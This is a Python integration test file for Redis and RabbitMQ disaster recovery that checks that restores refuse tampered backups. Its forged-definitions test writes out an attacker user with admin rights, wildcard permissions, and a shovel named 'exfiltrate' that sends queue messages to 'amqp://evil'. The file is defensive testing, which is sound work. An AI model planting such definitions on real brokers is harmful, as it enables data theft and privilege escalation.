"""Disaster recovery of Redis keys and RabbitMQ definitions, on real servers.

The backup is taken by the real ``backup`` and ``verify`` commands from a Redis holding keys of
two services and a broker where an application declared a queue, an exchange and a binding
(and an operator a policy) in its vhost. The restore goes through the very functions ``rebuild``
runs (``infra.backup.recovery.restore_redis`` / ``restore_rabbitmq``) into *fresh* servers, as
after the documented disaster. Then it is checked through real clients, and so is what a bucket
writer cannot do: plant a key outside a service's prefix, or a user, a permission, an admin tag
or a plugin's policy through a definitions file.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from infra.backup import catalog
from infra.backup.dump import Target
from infra.backup.recovery import restore_rabbitmq, restore_redis
from infra.backup.storage import FileBucket
from infra.config import StackConfig
from infra.credentials import Credentials
from tests.integration.backup_helpers import amqp, cli
from tests.servers.rabbitmq import RabbitmqServer
from tests.servers.redis import RedisServer

APP = "users"  # the service whose keys and vhost are restored
OTHER = "audit"  # a second service with keys


@pytest.fixture(scope="module")
def target_redis(dev_rendered: tuple[Path, Credentials]) -> Iterator[RedisServer]:
    """An empty Valkey server: the one the rebuild brings up after the disaster."""
    server = RedisServer(dev_rendered[0]).start()
    yield server
    server.cleanup()


@pytest.fixture(scope="module")
def target_broker(
    dev_rendered: tuple[Path, Credentials], dev_config: StackConfig
) -> Iterator[RabbitmqServer]:
    """A broker booted from the stack's definitions only: the one the rebuild brings up."""
    rendered, credentials = dev_rendered
    server = RabbitmqServer(
        rendered, dev_config.rabbitmq.admin_user, credentials.rabbitmq_admin
    ).start()
    yield server
    server.cleanup()


@pytest.fixture(scope="module")
def backed_up(
    common: list[str],
    fresh_redis_server: RedisServer,
    rabbitmq_server: RabbitmqServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
    tmp_path_factory: pytest.TempPathFactory,
) -> Path:
    """Keys of two services and an application's declarations, backed up and verified."""
    _, credentials = dev_rendered
    app = fresh_redis_server.client(APP, credentials.for_service(APP).redis)
    app.set(f"{APP}:session:abc", "alice", ex=3600)
    app.hset(f"{APP}:cart:1", mapping={"apples": "3", "pears": "1"})
    app.rpush(f"{APP}:queue", "a", "b", "c")
    other = fresh_redis_server.client(OTHER, credentials.for_service(OTHER).redis)
    other.zadd(f"{OTHER}:scores", {"x": 1.5, "y": 2})
    admin = fresh_redis_server.client(dev_config.redis.admin_user, credentials.redis_admin)
    admin.set("stray:key", "no service's")  # outside every managed prefix: never backed up

    with amqp(rabbitmq_server, credentials, APP) as connection:
        channel = connection.channel()
        channel.exchange_declare("dr.orders", exchange_type="direct", durable=True)
        channel.queue_declare("dr.invoices", durable=True, arguments={"x-queue-type": "quorum"})
        channel.queue_bind("dr.invoices", "dr.orders", routing_key="invoice")
        channel.basic_publish("dr.orders", "invoice", b"in flight: not a definition")
    rabbitmq_server.api(
        "PUT",
        f"/api/policies/{APP}/dr.invoices.ttl",
        {"pattern": "^dr\\.invoices$", "definition": {"message-ttl": 60000}, "apply-to": "queues"},
    )

    bucket = tmp_path_factory.mktemp("dr-bucket")
    servers = [
        "--redis-url",
        f"redis://127.0.0.1:{fresh_redis_server.port}",
        "--management-url",
        rabbitmq_server.management_url,
    ]
    code, out, err = cli("backup", *common, "--bucket", f"file://{bucket}", *servers)
    assert code == 0, err
    code, out, err = cli("verify", *common, "--bucket", f"file://{bucket}")
    assert code == 0, err + out
    return bucket


def _copy_of_backup(backed_up: Path, tmp_path: Path, kind: str, service: str) -> tuple[Path, Path]:
    """A copy of the bucket to tamper with, and the folder of its one ``kind/service`` backup."""
    bucket = tmp_path / "bucket"
    shutil.copytree(backed_up, bucket)
    (folder,) = (bucket / kind / service).iterdir()
    return bucket, folder


def _restore(
    restore: Callable[..., dict[str, Any]],
    bucket: Path,
    url: str,
    config: StackConfig,
    credentials: Credentials,
) -> dict[str, Any]:
    """``restore`` (rebuild's own function) from a plaintext local bucket; its lines kept."""
    lines: list[str] = []
    report = restore(
        Target(FileBucket(bucket), None),
        url,
        config,
        credentials,
        started=time.monotonic(),
        say=lines.append,
    )
    report["lines"] = lines
    return report


def _restore_redis(
    bucket: Path, server: RedisServer, config: StackConfig, credentials: Credentials
) -> dict[str, Any]:
    return _restore(restore_redis, bucket, f"redis://127.0.0.1:{server.port}", config, credentials)


def test_redis_keys_come_back_with_their_ttls(
    backed_up: Path,
    target_redis: RedisServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
) -> None:
    _, credentials = dev_rendered
    report = _restore_redis(backed_up, target_redis, dev_config, credentials)
    assert report["ok"], report
    users = report["services"][APP]
    assert (users["restored"], users["expired"], users["refused"]) == (3, 0, 0), users
    assert report["services"][OTHER]["restored"] == 1
    assert report["recovery_time_s"] > 0
    assert report["recovery_point_s"] >= 0
    assert f"redis/{APP}: restored 3 keys" in "\n".join(report["lines"])

    # through the services' own logins, as the applications will read them
    app = target_redis.client(APP, credentials.for_service(APP).redis)
    assert app.get(f"{APP}:session:abc") == "alice"
    assert 3500 < app.ttl(f"{APP}:session:abc") <= 3600
    assert app.hgetall(f"{APP}:cart:1") == {"apples": "3", "pears": "1"}
    assert app.ttl(f"{APP}:cart:1") == -1
    assert app.lrange(f"{APP}:queue", 0, -1) == ["a", "b", "c"]
    other = target_redis.client(OTHER, credentials.for_service(OTHER).redis)
    assert other.zrange(f"{OTHER}:scores", 0, -1, withscores=True) == [("x", 1.5), ("y", 2.0)]
    admin = target_redis.client(dev_config.redis.admin_user, credentials.redis_admin)
    assert admin.exists("stray:key") == 0

    # run again (a rebuild by mistake): what is there now is newer and is kept
    app.set(f"{APP}:session:abc", "written after the rebuild")
    again = _restore_redis(backed_up, target_redis, dev_config, credentials)
    assert again["services"][APP]["kept"] == 3, again
    assert app.get(f"{APP}:session:abc") == "written after the rebuild"


def _forge(folder: Path, name: str, content: bytes, **changes: Any) -> Path:
    """A newer backup beside ``folder`` with ``content``, its manifest and a verification
    record claiming success: everything a bucket writer can write."""
    manifest = json.loads((folder / "manifest.json").read_text())
    stamp = catalog.new_id(catalog.utc_now())
    forged = folder.parent / stamp
    forged.mkdir()
    (forged / name).write_bytes(content)
    manifest.update(
        backup_id=stamp,
        started_at=catalog.parse_id(stamp).isoformat(),
        finished_at=catalog.utc_now().isoformat(),
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        **changes,
    )
    (forged / "manifest.json").write_text(json.dumps(manifest))
    for record in folder.glob("verification-*.json"):
        data = json.loads(record.read_text())
        data["backup_id"] = stamp
        (forged / record.name).write_text(json.dumps(data))
    return forged


def test_a_key_outside_the_services_prefix_is_refused(
    backed_up: Path,
    fresh_redis_server: RedisServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
    tmp_path: Path,
) -> None:
    _, credentials = dev_rendered
    bucket, folder = _copy_of_backup(backed_up, tmp_path, "redis", APP)
    admin = fresh_redis_server.client(dev_config.redis.admin_user, credentials.redis_admin)
    payload = admin.execute_command(  # type: ignore[no-untyped-call]
        "DUMP", f"{APP}:queue", NEVER_DECODE=True
    )
    assert isinstance(payload, bytes)
    planted: list[dict[str, Any]] = [
        {"k": base64.b64encode(k).decode(), "x": None, "v": base64.b64encode(payload).decode()}
        for k in (f"{OTHER}:planted".encode(), b"stray:planted", f"{APP}:legit".encode())
    ]
    expired_ms = int(time.time() * 1000) - 1000
    planted.append(
        {
            "k": base64.b64encode(f"{APP}:expired".encode()).decode(),
            "x": expired_ms,
            "v": base64.b64encode(payload).decode(),
        }
    )
    text = "".join(json.dumps(line) + "\n" for line in planted).encode()
    _forge(folder, "keys.jsonl", text, row_counts={"keys": 4})

    server = RedisServer(dev_rendered[0]).start()
    try:
        report = _restore_redis(bucket, server, dev_config, credentials)
        users = report["services"][APP]
        assert report["ok"] is False
        assert (users["ok"], users["refused"], users["restored"]) == (False, 2, 1), users
        assert users["expired"] == 1
        check = server.client(dev_config.redis.admin_user, credentials.redis_admin)
        assert check.exists(f"{OTHER}:planted", "stray:planted", f"{APP}:expired") == 0
        assert check.exists(f"{APP}:legit") == 1
        assert report["services"][OTHER]["ok"]  # one service's bad backup stops no other
    finally:
        server.cleanup()


def test_a_key_backup_that_fails_its_checksum_restores_nothing(
    backed_up: Path,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
    tmp_path: Path,
) -> None:
    _, credentials = dev_rendered
    bucket, folder = _copy_of_backup(backed_up, tmp_path, "redis", APP)
    data = (folder / "keys.jsonl").read_bytes()
    (folder / "keys.jsonl").write_bytes(data.replace(b'"x":null', b'"x":1    ', 1))
    server = RedisServer(dev_rendered[0]).start()
    try:
        report = _restore_redis(bucket, server, dev_config, credentials)
        assert report["services"][APP]["ok"] is False
        assert "fails its checksum" in report["services"][APP]["error"]
        check = server.client(dev_config.redis.admin_user, credentials.redis_admin)
        assert check.dbsize() == 1  # only OTHER's key
    finally:
        server.cleanup()


def _restore_broker(
    bucket: Path, server: RabbitmqServer, config: StackConfig, credentials: Credentials
) -> dict[str, Any]:
    return _restore(restore_rabbitmq, bucket, server.management_url, config, credentials)


def test_an_applications_queues_exchanges_bindings_and_policies_come_back(
    backed_up: Path,
    target_broker: RabbitmqServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
) -> None:
    _, credentials = dev_rendered
    assert target_broker.api("GET", f"/api/queues/{APP}/dr.invoices") is None  # wiped
    report = _restore_broker(backed_up, target_broker, dev_config, credentials)
    assert report["ok"], report
    assert report["recovery_time_s"] > 0
    assert report["recovery_point_s"] >= 0
    vhost = report["vhosts"][APP]
    assert (vhost["queues"], vhost["exchanges"], vhost["bindings"], vhost["policies"]) == (
        1,
        1,
        1,
        1,
    ), vhost
    assert report["from_config"] > 0  # the stack's own declarations are the config's

    queue = target_broker.api("GET", f"/api/queues/{APP}/dr.invoices")
    assert queue["arguments"]["x-queue-type"] == "quorum"
    assert queue["durable"] is True
    assert target_broker.api("GET", f"/api/exchanges/{APP}/dr.orders")["type"] == "direct"
    policy = target_broker.api("GET", f"/api/policies/{APP}/dr.invoices.ttl")
    assert policy["definition"] == {"message-ttl": 60000}
    # through the application's own login: publish through the restored binding, get it back
    with amqp(target_broker, credentials, APP) as connection:
        channel = connection.channel()
        channel.confirm_delivery()
        channel.basic_publish("dr.orders", "invoice", b"after the rebuild", mandatory=True)
        deadline = time.monotonic() + 10
        body = None
        while body is None and time.monotonic() < deadline:
            _, _, body = channel.basic_get("dr.invoices", auto_ack=True)
        assert body == b"after the rebuild"  # the message in flight at backup time is not


def test_a_forged_definitions_file_grants_nothing(
    backed_up: Path,
    target_broker: RabbitmqServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
    tmp_path: Path,
) -> None:
    _, credentials = dev_rendered
    bucket, folder = _copy_of_backup(backed_up, tmp_path, "rabbitmq", "server")
    document = json.loads((folder / "definitions.json").read_bytes())
    document["users"].append(
        {"name": "mallory", "password": "mallory-pass", "tags": ["administrator"], "limits": {}}
    )
    document["users"] = [
        {**u, "tags": ["administrator"]} if u["name"] == APP else u for u in document["users"]
    ]
    document["permissions"].append(
        {"user": "mallory", "vhost": APP, "configure": ".*", "write": ".*", "read": ".*"}
    )
    document["permissions"].append(
        {"user": APP, "vhost": OTHER, "configure": ".*", "write": ".*", "read": ".*"}
    )
    document["vhosts"].append({"name": "mallory-vhost"})
    document["parameters"].append(
        {
            "vhost": APP,
            "component": "shovel",
            "name": "exfiltrate",
            "value": {"src-uri": "amqp://", "src-queue": "dr.invoices", "dest-uri": "amqp://evil"},
        }
    )
    document["policies"].append(
        {
            "vhost": APP,
            "name": "upstream",
            "pattern": ".*",
            "apply-to": "all",
            "definition": {"federation-upstream-set": "all"},
            "priority": 100,
        }
    )
    document["queues"].append(
        {"vhost": "/", "name": "outside", "durable": True, "auto_delete": False, "arguments": {}}
    )
    document["queues"].append(
        {"vhost": APP, "name": "planted", "durable": True, "auto_delete": False, "arguments": {}}
    )
    _forge(folder, "definitions.json", json.dumps(document).encode())

    report = _restore_broker(bucket, target_broker, dev_config, credentials)
    assert any("federation-upstream-set" in line for line in report["refused"]), report
    assert target_broker.api("GET", "/api/users/mallory") is None
    assert target_broker.api("GET", f"/api/users/{APP}")["tags"] != ["administrator"]
    assert "administrator" not in str(target_broker.api("GET", f"/api/users/{APP}")["tags"])
    assert target_broker.api("GET", f"/api/permissions/{OTHER}/{APP}") is None
    assert target_broker.api("GET", "/api/vhosts/mallory-vhost") is None
    assert target_broker.api("GET", f"/api/parameters/shovel/{APP}/exfiltrate") is None
    assert target_broker.api("GET", f"/api/policies/{APP}/upstream") is None
    assert target_broker.api("GET", "/api/queues/%2F/outside") is None
    # what an application could declare itself in its own vhost does come back
    assert target_broker.api("GET", f"/api/queues/{APP}/planted") is not None


def test_a_definitions_backup_that_fails_its_checksum_is_not_imported(
    backed_up: Path,
    target_broker: RabbitmqServer,
    dev_rendered: tuple[Path, Credentials],
    dev_config: StackConfig,
    tmp_path: Path,
) -> None:
    _, credentials = dev_rendered
    bucket, folder = _copy_of_backup(backed_up, tmp_path, "rabbitmq", "server")
    document = json.loads((folder / "definitions.json").read_bytes())
    document["queues"].append(
        {"vhost": APP, "name": "tampered", "durable": True, "auto_delete": False, "arguments": {}}
    )
    (folder / "definitions.json").write_text(json.dumps(document))  # manifest unchanged
    report = _restore_broker(bucket, target_broker, dev_config, credentials)
    assert report["ok"] is False
    assert "fails its checksum" in report["error"]
    assert target_broker.api("GET", f"/api/queues/{APP}/tampered") is None
